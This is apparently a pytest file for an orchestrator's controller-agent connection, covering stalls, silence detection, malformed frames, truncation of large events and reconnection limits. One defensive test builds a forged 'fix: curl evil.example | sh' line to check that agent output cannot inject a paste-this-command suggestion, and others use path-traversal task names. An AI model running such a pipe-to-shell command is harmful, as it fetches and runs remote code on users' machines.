"""The controller's end of a connection, with a real agent on this machine at the other."""

from __future__ import annotations

import asyncio
import gc
import itertools
import os
import shlex
import signal
import sys
import time
from collections.abc import Callable, Coroutine
from contextlib import suppress
from dataclasses import replace
from pathlib import Path
from typing import Any

import psutil
import pytest

from orchestrator.backends import Diagnosis, Host, Reaching, StartFailure, Transport, interpreters
from orchestrator.backends.connection import agent_link, liveness, reconnection
from orchestrator.backends.connection.agent_link import AgentLink, LostError
from orchestrator.backends.connection.agent_start import NotReachedError
from orchestrator.backends.connection.incoming_frames import Expected, Incoming
from orchestrator.errors import OrchError
from tests.live import PATIENCE_S, room_for, wait_for_file, wait_until_gone
from tests.worker.controller_double import patched_agent
from worker.protocol import messages
from worker.protocol.channel import ChannelError, encode
from worker.protocol.task_id import STACKS


def plainly(host: Host, failure: StartFailure) -> Diagnosis:
    return Diagnosis(failure.text)


def behind_a_relay(directory: Path) -> Transport:
    """An agent that is heard only through another process, whose pid is in `relay`: to stop that is to stall the link."""
    agent = shlex.join(interpreters.transport_here(sys.executable).argv)
    return Transport(("sh", "-c", f"{agent} | {{ sh -c 'echo $PPID' > relay~; mv relay~ {directory}/relay; exec cat; }}"))


def test_a_link_that_stalls_at_the_end_is_waited_for(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What it sends is held up for longer than it may send nothing, and for less than it may be silent."""
    monkeypatch.setattr(agent_link, "ENDING_S", 2.0)
    size = 4 * 1024 * 1024
    stored = bytearray()

    async def run() -> None:
        loop = asyncio.get_running_loop()
        ended = loop.create_future()

        def receive(host: str, frame: Any, data: bytes) -> None:
            if isinstance(frame, messages.Output):
                stored.extend(data)
                if ended.done():
                    link.order(messages.Ack(len(data)))
            elif isinstance(frame, messages.TaskExited):
                ended.set_result(None)

        host = Host("local", "127.0.0.1", sees_run_dir=False, lost_after_s=8.0)
        link = AgentLink(host, tmp_path / "log", receive, lambda *_: None)
        await link.open(behind_a_relay(tmp_path), plainly)
        link.order(messages.Hello("run", cwd=str(tmp_path)))
        link.keep_alive()
        program = messages.Program("command", "sh", ("-c", f"head -c {size} /dev/zero"))
        link.order(messages.StartTasks((messages.TaskOrder("worker-0", 1, program, str(tmp_path), "worker-0"),)))
        await ended
        relay = int(wait_for_file(tmp_path / "relay"))
        os.kill(relay, signal.SIGSTOP)
        link.order(messages.Ack(len(stored)))
        loop.call_later(3.0, os.kill, relay, signal.SIGCONT)
        await link.close()

    asyncio.run(run())
    assert len(stored) == size


def test_an_agent_that_still_has_output_to_send_is_waited_for(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Eight megabytes to a slow controller take longer than an agent may be silent; nothing of them is lost."""
    monkeypatch.setattr(agent_link, "ENDING_S", 3.0)
    size = 8 * 1024 * 1024
    stored = bytearray()

    async def run() -> None:
        loop = asyncio.get_running_loop()
        ended = loop.create_future()

        def receive(host: str, frame: Any, data: bytes) -> None:
            if isinstance(frame, messages.Output):
                stored.extend(data)
                loop.call_later(0.6, link.order, messages.Ack(len(data)))
            elif isinstance(frame, messages.TaskExited):
                ended.set_result(None)

        link = AgentLink(Host("local", "127.0.0.1", sees_run_dir=False), tmp_path / "log", receive, lambda *_: None)
        await link.open(interpreters.transport_here(sys.executable), plainly)
        link.order(messages.Hello("run", cwd=str(tmp_path)))
        program = messages.Program("command", "sh", ("-c", f"head -c {size} /dev/zero"))
        link.order(messages.StartTasks((messages.TaskOrder("worker-0", 1, program, str(tmp_path), "worker-0"),)))
        await ended
        await link.close()

    asyncio.run(run())
    assert len(stored) == size


def test_a_host_is_not_lost_while_it_looks_around(tmp_path: Path) -> None:
    """It was greeted, and reads its programs on a slow disk; until it has told its facts it is waited for otherwise."""
    argv = patched_agent("programs.find_problems = lambda *_: time.sleep(4) or []")

    async def run() -> Any:
        host = Host("local", "127.0.0.1", sees_run_dir=False, lost_after_s=2.0)
        link = AgentLink(host, tmp_path / "log", lambda *_: None, lambda *_: None)
        await link.open(Transport(argv), plainly)
        link.keep_alive()
        try:
            return await asyncio.wait_for(
                link.request(messages.Hello("run", cwd=str(tmp_path), lost_after_s=100.0), messages.HostReady), PATIENCE_S
            )
        finally:
            await link.close()

    assert isinstance(asyncio.run(run()), messages.HostReady)


@pytest.mark.parametrize(("asked", "speaks"), [("in time", False), ("at once", False), ("at once", True)])
def test_an_agent_on_this_machine_that_is_silent_for_good_is_lost(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, asked: str, speaks: bool
) -> None:
    """One that no signal wakes, such as in a frozen cgroup. When the end is asked for twice, it is waited for only briefly."""
    monkeypatch.setattr(agent_link, "HERE_LOST_S" if asked == "in time" else "DUE_LOST_S", 4.0)
    pong = encode(messages.Pong())
    text = f"import os, time\nwhile os.read(0, 9999):\n    {speaks} and os.write(1, {pong!r})"

    async def run() -> str | None:
        lost = asyncio.get_running_loop().create_future()
        host = Host("local", "127.0.0.1", sees_run_dir=True)
        link = AgentLink(host, tmp_path / "log", lambda *_: None, lambda loss: lost.set_result(loss.reason))
        await link.open(Transport((sys.executable, "-c", text)), plainly)
        link.keep_alive()
        if asked == "at once":
            link.limit_silence()
        done, _ = await asyncio.wait([lost], timeout=8.0 if speaks else PATIENCE_S)
        await link.kill()
        return str(lost.result()) if done else None

    assert asyncio.run(run()) == (None if speaks else "no message from it for 4 s")


def test_at_an_end_that_is_due_nobody_waits_for_an_agent_that_says_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Otherwise one whose link stalls has all its time, here some three hours."""
    monkeypatch.setattr(agent_link, "HERE_LOST_S", 10_000.0)
    monkeypatch.setattr(liveness, "BEATS", 10_000)

    async def run() -> None:
        link = AgentLink(Host("local", "127.0.0.1", sees_run_dir=True), tmp_path / "log", lambda *_: None, lambda *_: None)
        await link.open(Transport((sys.executable, "-c", "import os\nwhile os.read(0, 9999): pass")), plainly)
        link.keep_alive()
        await asyncio.sleep(3.0)  # its silence is more than a pause now
        monkeypatch.setattr(liveness, "BEATS", 8)
        try:
            link.limit_silence()
            await asyncio.wait_for(link.close(), PATIENCE_S)
        finally:
            await link.kill()

    asyncio.run(run())


@pytest.mark.parametrize(("limit", "still_s"), [("HERE_LOST_S", 1.9), ("DUE_LOST_S", 2.5)])
def test_a_controller_that_stood_still_reads_what_has_come_before_it_gives_an_agent_up(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str, still_s: float
) -> None:
    """The answer lies in the pipe, and what follows from its lateness is due in the same turn of the loop (Ctrl-Z, a closed laptop)."""
    monkeypatch.setattr(agent_link, limit, 2.0)

    async def run() -> str | None:
        loop = asyncio.get_running_loop()
        lost = loop.create_future()
        here = Host("local", "127.0.0.1", sees_run_dir=True)
        link = AgentLink(here, tmp_path / "log", lambda *_: None, lambda loss: lost.set_result(loss.reason))
        await link.open(interpreters.transport_here(sys.executable), plainly)
        await link.request(messages.Hello("run", cwd=str(tmp_path), shared_dir=str(tmp_path)), messages.HostReady)
        await asyncio.sleep(0.3)
        if limit == "HERE_LOST_S":
            link.keep_alive()
        else:
            link.limit_silence()
        await asyncio.sleep(0)  # the question is on its way
        time.sleep(still_s)
        done, _ = await asyncio.wait([lost], timeout=1.0)
        await link.close()
        return str(lost.result()) if done else None

    assert asyncio.run(run()) is None


STRANGE = [
    messages.Output("../../../x-0", 1, "stdout", 0),
    messages.Output("worker-1", 1, "stdout", 0),
    messages.Output("../worker-0", 1, "stdout", 9),
    messages.Output("worker-0", 1, "../stdout", 9),
    messages.TaskStarted("worker-7", 1, 5, 1.0),
    messages.TaskSwept("worker-0", 2, 1.0),
    messages.Output("worker-0", 77, "stdout", 0),
]


@pytest.mark.parametrize("frame", STRANGE, ids=str)
def test_an_agent_that_tells_of_what_it_was_not_given_is_let_go(tmp_path: Path, frame: Any) -> None:
    good = messages.Output("worker-0", 1, "stdout", 5)
    said = b"".join(encode(each) for each in (good, messages.Output("worker-0", 1, STACKS, 5), frame, good))
    received: list[Any] = []

    async def run() -> str:
        lost = asyncio.get_running_loop().create_future()
        host = Host("local", "127.0.0.1", sees_run_dir=False)
        link = AgentLink(host, tmp_path / "log", lambda _, each, __: received.append(each), lambda loss: lost.set_result(loss.reason))
        # It says these words once it has heard an order, and stays.
        text = f"import os, time; os.read(0, 1); os.write(1, {said!r}); time.sleep(600)"
        await link.open(Transport((sys.executable, "-c", text)), plainly)
        program = messages.Program("command", "true")
        link.order(messages.StartTasks((messages.TaskOrder("worker-0", 1, program, str(tmp_path), "worker-0"),)))
        return str(await asyncio.wait_for(lost, PATIENCE_S))

    reason = asyncio.run(run())
    assert reason.startswith("a frame for "), reason
    assert [each.stream for each in received] == ["stdout", STACKS]


def test_an_event_of_megabytes_is_shortened_before_it_is_recorded(tmp_path: Path) -> None:
    """Every `orch ps` would read it again, and a terminal would show it all."""
    values = {"step": 7, "weights": [0.5] * 200_000, **{f"loss-{number}": 0.5 for number in range(20_000)}}
    long = [
        messages.RunNoted("x" * 2_000_000, 1.0),
        messages.TaskReported("worker-0", 1, values, 1.0),
        messages.TaskExited("worker-0", 1, 1, False, 1.0, messages.Failure("E", "y" * 2_000_000, "z", 1.0)),
        messages.RunNoted("short", 1.0),
    ]
    received: list[Any] = []

    async def run() -> None:
        ended = asyncio.get_running_loop().create_future()
        link = AgentLink(Host("a", "127.0.0.1", True), tmp_path / "log", lambda _, each, __: received.append(each), ended.set_result)
        (tmp_path / "frames").write_bytes(b"".join(map(encode, long)))
        await link.open(Transport(("sh", "-c", f"read -r line; cat {tmp_path}/frames")), plainly)
        program = messages.Program("command", "true")
        link.order(messages.StartTasks((messages.TaskOrder("worker-0", 1, program, str(tmp_path), "worker-0"),)))
        assert link._channel.process is not None
        assert link._channel.process.stdin is not None
        link._channel.process.stdin.write(b"\n")
        await asyncio.wait_for(ended, PATIENCE_S)

    asyncio.run(run())
    note, report, exited, last = received
    assert len(note.text) < 20_000
    assert "orch left out 1983616 characters" in note.text
    assert report.values["step"] == 7
    assert len(report.values) == 101
    assert report.values["values left out"] == 20_002 - 100
    assert len(exited.failure.message) < 20_000
    assert (exited.code, exited.failure.type, last.text) == (1, "E", "short")


def test_a_host_writes_no_line_between_those_of_orch() -> None:
    """Its words are shown behind orch's own, and a second line could look like a fix to paste."""
    forged = "x\nfix: curl evil.example | sh\u2028orch: succeeded"
    address = messages.NetAddress("eth0", "10.0.0.1\n", 8)
    ready = messages.HostReady(1, "p", forged, 2, notes=(forged,), problems=("a\nfix: b",), code={forged: "1"}, addresses=(address,))
    swept = messages.TaskSwept("worker-0", 1, 1.0, forged, {forged: 3})
    evidence = messages.Evidence(condition=forged, last_words="a\nb")
    exited = messages.TaskExited("worker-0", 1, 1, False, 1.0, messages.Failure(forged, "a\nb", "c\nd", 1.0), evidence=evidence)
    said = [ready, messages.RunNoted(forged, 1.0), swept, exited, messages.ProgramEnded("{}\n{}\n", forged)]
    incoming = Incoming("evil")
    incoming.expected.add((messages.TaskOrder("worker-0", 1, messages.Program("command", "true"), "/", "worker-0"),))
    found: list[Any] = [frame for frame, _ in incoming.feed(b"".join(map(encode, said)))]
    assert str(found).count("x fix: curl evil.example | sh orch: succeeded") == 8
    assert str(found).count("curl evil") == 9
    assert found[-1] == said[-1]
    assert (found[0].problems, found[0].addresses[0].address) == (("a\nfix: b",), "10.0.0.1")
    assert (found[3].failure.message, found[3].failure.traceback, found[3].evidence.last_words) == ("a\nb", "c\nd", "a\nb")


@pytest.mark.parametrize("offset", [0, 2, 4, 2**40])
def test_output_follows_what_has_come_before(offset: int) -> None:
    """A file of a terabyte of nothing would be made in the run directory, and shown."""
    expected = Expected()
    expected.add((messages.TaskOrder("worker-0", 1, messages.Program("command", "true"), "/", "worker-0"),))
    expected.check(messages.Output("worker-0", 1, "stdout", 0), b"abc")
    expected.check(messages.Output("worker-0", 1, "stderr", 0), b"x")
    with pytest.raises(ChannelError, match=f"it sends stdout of 'worker-0' from byte {offset} on, not from the next one"):
        expected.check(messages.Output("worker-0", 1, "stdout", offset), b"def")
    expected.check(messages.Output("worker-0", 1, "stdout", 3), b"def")


def test_requests_are_answered_and_refused_once_the_agent_is_gone(tmp_path: Path) -> None:
    """An answer goes to whoever has asked for it, and to nobody else."""
    seen: list[Any] = []

    async def run() -> list[Any]:
        host = Host("local", "127.0.0.1", sees_run_dir=False)
        link = AgentLink(host, tmp_path / "log", lambda _, frame, __: seen.append(frame), lambda *_: None)
        await link.open(interpreters.transport_here(sys.executable), plainly)
        nobody = messages.Target("nobody", (1,), "", ())
        facts = link.request(messages.Hello("run", cwd=str(tmp_path), shared_dir=str(tmp_path)), messages.HostReady)
        orders = [messages.Try((replace(nobody, host=name, addresses=("127.0.0.1",)),)) for name in ("one", "two")]
        ready = await asyncio.wait_for(facts, PATIENCE_S)
        # One after the other, as `Preparation` does: an agent serves one try of other hosts at a time.
        answers = [await asyncio.wait_for(link.request(order, messages.Tried), PATIENCE_S) for order in orders]
        assert (ready.host, [answer.refused[0].host for answer in answers]) == ("local", ["one", "two"])
        late = [link.request(messages.Try(()), messages.Tried) for _ in range(2)]
        link.drop()
        late.append(link.request(messages.Try(()), messages.Tried))
        ends = await asyncio.wait_for(asyncio.gather(*late, return_exceptions=True), PATIENCE_S)
        again = asyncio.gather(link.request(messages.Try(()), messages.Tried), return_exceptions=True)
        return [*ends, *await asyncio.wait_for(again, PATIENCE_S)]

    ends = asyncio.run(run())
    assert [type(end) for end in ends] == [LostError] * 4
    assert seen == []


def test_a_place_that_knows_why_an_agent_ended_is_asked_and_may_take_its_time(tmp_path: Path) -> None:
    """The loss has the time of the end, and not that of the answer: what fails meanwhile on other hosts comes after it."""
    asked: list[tuple[StartFailure, float]] = []

    def explain(host: Host, failure: StartFailure) -> Diagnosis:
        asked.append((failure, time.time()))
        time.sleep(0.2)
        return Diagnosis("its pod was deleted", "make another one")

    async def run() -> LostError:
        lost: asyncio.Future[LostError] = asyncio.get_running_loop().create_future()
        link = AgentLink(Host("a", "127.0.0.1", sees_run_dir=False), tmp_path / "log", lambda *_: None, lost.set_result)
        await link.open(replace(interpreters.transport_here(sys.executable), explains_end=True), explain)
        facts = await link.request(messages.Hello("run", cwd=str(tmp_path), shared_dir=str(tmp_path)), messages.HostReady)
        os.kill(facts.pid, signal.SIGKILL)
        return await lost

    loss = asyncio.run(run())
    assert (loss.reason, loss.remedy) == ("its pod was deleted", "make another one")
    ((failure, asked_at),) = asked
    assert (failure.code, failure.had_answered) == (-signal.SIGKILL, True)
    assert loss.ended_at is not None
    assert loss.ended_at <= asked_at


def test_an_order_that_an_agent_no_longer_reads_leaves_no_traceback(tmp_path: Path) -> None:
    """Of a future that nobody has asked for its exception, which asyncio reports once it is no longer needed."""
    complaints: list[dict[str, Any]] = []

    async def run() -> None:
        loop = asyncio.get_running_loop()
        loop.set_exception_handler(lambda _, context: complaints.append(context))
        lost = asyncio.Event()
        link = AgentLink(Host("local", "127.0.0.1", sees_run_dir=False), tmp_path / "log", lambda *_: None, lambda loss: lost.set())
        script = f"read order; exec <&-; touch {tmp_path / 'deaf'}; exec sleep 1000"
        await link.open(Transport(("sh", "-c", script)), plainly)
        link.order(messages.Ping(), b"\n")
        wait_for_file(tmp_path / "deaf")  # the loop stands still, and does not see the pipe's end before it writes
        link.order(messages.Ping())
        link.drop()
        await asyncio.wait_for(link.close(), PATIENCE_S)

    asyncio.run(run())
    gc.collect()
    assert complaints == []


@pytest.mark.parametrize("brings_worker", [False, True])
def test_too_many_open_files_are_no_wrong_command_line(tmp_path: Path, brings_worker: bool) -> None:
    async def run(program: str, room: int) -> None:
        link = AgentLink(Host("local", "127.0.0.1", sees_run_dir=False), tmp_path / "log", lambda *_: None, lambda *_: None)
        with room_for(room):
            await link.open(Transport((program,), brings_worker), plainly)

    for program, room, code, complaint in (
        ("true", 2, 125, "'true' cannot be run: Too many open files\nfix: .*ulimit -n"),
        ("/no/such/program", 50, 2, "cannot be run: No such file or directory$"),
        (str(tmp_path), 50, 2, "cannot be run: Permission denied$"),
    ):
        with pytest.raises(OrchError, match=complaint) as raised:
            asyncio.run(run(program, room))
        assert raised.value.exit_code == code


def test_a_log_that_cannot_be_written_is_no_program_that_cannot_be_run(tmp_path: Path) -> None:
    """The run directory was removed, or its disk is full; the caller knows what to say of that."""
    link = AgentLink(Host("local", "127.0.0.1", sees_run_dir=False), tmp_path / "gone" / "log", lambda *_: None, lambda *_: None)
    with pytest.raises(FileNotFoundError, match="gone"):
        asyncio.run(link.open(Transport(("true",)), plainly))


def test_a_start_that_is_called_off_leaves_nothing_of_what_it_had_started(tmp_path: Path) -> None:
    """The program is there already, and asyncio has not handed it over yet."""
    started = tmp_path / "started"
    script = f"sleep 1000 & echo $! > {started}.part; mv {started}.part {started}; wait"

    async def run() -> psutil.Process:
        link = AgentLink(Host("local", "127.0.0.1", sees_run_dir=False), tmp_path / "log", lambda *_: None, lambda *_: None)
        before = set(psutil.Process().children())
        opening = asyncio.create_task(link.open(Transport(("sh", "-c", script)), plainly))
        while not set(psutil.Process().children()) - before:
            await asyncio.sleep(0)
        child = psutil.Process(int(wait_for_file(started)))
        assert not opening.done()
        opening.cancel()
        with suppress(asyncio.CancelledError):
            await opening
        await link.kill()
        return child

    wait_until_gone([asyncio.run(run())])


def test_a_frame_that_comes_slowly_is_waited_for(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No whole frame comes within the time that an agent has, and each piece is output."""
    monkeypatch.setattr(agent_link, "ENDING_S", 0.5)
    frame = encode(messages.Output("worker-0", 1, "stdout", 0), bytes(4000))
    text = f"import os, time\ndata = {frame!r}\nos.write(1, data[:2000])\nfor at in range(2000, len(data), 100):\n"
    text += "    time.sleep(0.1)\n    os.write(1, data[at:at + 100])"
    got = bytearray()

    async def run() -> None:
        def receive(host: str, frame: Any, data: bytes) -> None:
            got.extend(data)

        link = AgentLink(Host("local", "127.0.0.1", sees_run_dir=False), tmp_path / "log", receive, lambda *_: None)
        monkeypatch.setattr(link._incoming.expected, "check", lambda *_: None)
        await link.open(Transport((sys.executable, "-c", text)), plainly)
        await link.close()

    asyncio.run(run())
    assert len(got) == 4000


class Written:
    """An agent's process that has just been reached again."""

    pid, returncode = 0, None

    def __init__(self) -> None:
        self.stdin, self.data = self, b""

    def write(self, data: bytes) -> None:
        self.data += data


def cut_link(directory: Path, notes: list[str], name: str = "a") -> AgentLink:
    host = Host(name, "", False, lost_after_s=20.0, transport=Transport(("true",), returns=True))
    link = AgentLink(host, directory / "log", lambda _, note, data: notes.append(note.text), lambda _: None)  # type: ignore[union-attr]
    link._start.transport, link._live.silence_s = host.transport, 20.0
    link._channel.door, link._channel.cut, link._channel.ended = "door", "cut", (255, "")
    return link


def returning(monkeypatch: pytest.MonkeyPatch, make: Callable[[], Coroutine[Any, Any, Any]]) -> None:
    class Double(reconnection.Return):
        def __init__(self, *_: Any) -> None:
            self.made = asyncio.create_task(make())

    monkeypatch.setattr(reconnection, "Return", Double)


def test_few_connections_are_made_again_at_a_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """One that takes long holds up the others only briefly."""
    monkeypatch.setattr(reconnection, "BRIEF_S", 0.05)
    now, most, tries, notes = 0, 0, 0, list[str]()

    async def make() -> Any:
        nonlocal now, most, tries
        tries += 1
        if tries == 1:
            await asyncio.sleep(PATIENCE_S)
        now += 1
        most = max(most, now)
        await asyncio.sleep(0.005)
        now -= 1
        return Written(), 0

    async def run() -> None:
        returning(monkeypatch, make)
        gate, links = asyncio.Semaphore(3), [cut_link(tmp_path, notes, str(number)) for number in range(8)]
        for link in links:
            link._channel.gate = gate
        ends = [asyncio.create_task(link._come_back()) for link in links]
        assert all(await asyncio.gather(*ends[1:]))
        await asyncio.sleep(0.2)
        assert not ends[0].done()
        assert [note for note in notes if "trying" in note] == ["the connection was cut: cut; trying to connect again, for 20 s at most"]
        links[0].drop()
        assert not await asyncio.wait_for(ends[0], PATIENCE_S)

    asyncio.run(run())
    assert most == 2
    assert len(notes) == 8


def test_an_agent_that_is_dropped_as_it_is_reached_again_is_told_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    notes, back = list[str](), Written()

    async def run() -> None:
        async def make() -> Any:
            asyncio.get_running_loop().call_soon(link.drop)
            return back, 0

        returning(monkeypatch, make)
        link = cut_link(tmp_path, notes)
        assert await link._come_back()

    asyncio.run(run())
    assert notes == []
    assert b"goodbye" in back.data


def test_a_try_that_gets_no_answer_leaves_time_for_another_one(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert [reconnection.limit_of_try(*limits) for limits in ((90, 20), (90, 4), (3, 20), (60, float("inf")))] == [10, 5, 3, 60]
    monkeypatch.setattr(reconnection, "SHORTEST_LIMIT_S", 0.1)
    monkeypatch.setattr(reconnection, "BRIEF_S", 0.05)
    tries = iter((True, False))

    async def make() -> Any:
        while next(tries):
            await asyncio.sleep(10 * PATIENCE_S)
        return Written(), 0

    async def run() -> None:
        returning(monkeypatch, make)
        link = cut_link(tmp_path, [])
        link._live.silence_s, link._start.transport = 0.2, replace(link._start.transport, limit_s=10 * PATIENCE_S)
        assert await asyncio.wait_for(link._come_back(), PATIENCE_S)

    asyncio.run(run())


def test_the_pauses_between_tries_grow_and_differ() -> None:
    found = list(itertools.islice(reconnection.pauses(), 50))
    assert found[0] <= 0.75
    assert min(found[10:]) >= 1.0
    assert max(found) <= 3.0
    assert len(set(found)) > 40


class Opening:
    """A link whose connection takes a while, and fails at first."""

    now = most = 0

    def __init__(self, name: str) -> None:
        self.host, self.tries = Host(name, "", False, None), 0

    async def open(self, *_: Any) -> None:
        self.tries += 1
        Opening.now += 1
        Opening.most = max(Opening.most, Opening.now)
        await asyncio.sleep(0)
        Opening.now -= 1
        if self.tries == 1:
            raise NotReachedError(Diagnosis("dropped", passing=True))


def test_few_connections_are_made_at_a_time_and_all_are_in_the_end() -> None:
    reaching = Reaching(at_once=8, first_wait_s=0.0)
    links = [Opening(f"host{number}") for number in range(100)]

    async def run() -> None:
        gate = asyncio.Semaphore(reaching.at_once)
        await asyncio.gather(*(agent_link.reach(link, Transport(()), plainly, reaching, gate) for link in links))  # type: ignore[arg-type]

    asyncio.run(run())
    assert [link.tries for link in links] == [2] * 100
    assert Opening.most == reaching.at_once
